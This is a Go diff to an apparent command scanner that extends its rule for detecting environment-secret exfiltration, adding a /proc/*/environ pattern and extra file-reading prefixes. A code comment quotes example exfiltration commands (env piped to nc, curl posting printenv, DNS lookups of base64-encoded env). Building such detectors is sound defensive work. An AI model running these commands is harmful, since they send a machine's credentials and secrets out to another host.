@@ -324,6 +324,14 @@ func matchSecretPrint(c *command, h *hits) {
 // (env | nc HOST PORT, curl -d "$(printenv)", dig $(env | base64).x.example):
 // the worker's and the job's secrets leave the machine.
 func matchEnvSend(c *command, h *hits) {
+	for _, a := range c.args {
+		for _, p := range readPaths(a) {
+			if p.lit && procEnviron.MatchString(p.val) {
+				h.add(ruleEnvSend, c.name+" sends a process's environment ("+quoteDetail(p.val)+")")
+				return
+			}
+		}
+	}
 	if c.stdin.taint&taintSecret != 0 {
 		h.add(ruleEnvSend, c.name+" sends the environment it reads on stdin")
 		return
@@ -515,6 +523,9 @@ func revealsCredentials(a arg) bool {
 	return false
 }
 
+// procEnviron is a process's environment as a file.
+var procEnviron = regexp.MustCompile(`^/proc/[^/]+/environ$`)
+
 // tarOperands returns tar's arguments with each operand after -C DIR
 // (--directory DIR) joined to DIR: tar czf x.tgz -C ~ .ssh reads ~/.ssh.
 func tarOperands(args []arg) []arg {
@@ -652,7 +663,7 @@ func readPaths(a arg) []arg {
 	if !a.lit {
 		return out
 	}
-	for _, sep := range []string{"=@", "@", "file://", "if=", "file:", "open:", "--post-file=", "--body-file=", "--upload-file="} {
+	for _, sep := range []string{"=@", "@", "file://", "if=", "file:", "open:", "FILE:", "OPEN:", "GOPEN:", "gopen:", "--post-file=", "--body-file=", "--upload-file="} {
 		if i := strings.Index(v, sep); i >= 0 && (sep != "@" || i == 0 || formFileField(v[:i], v[i+1:])) {
 			b := a
 			b.val = v[i+len(sep):]
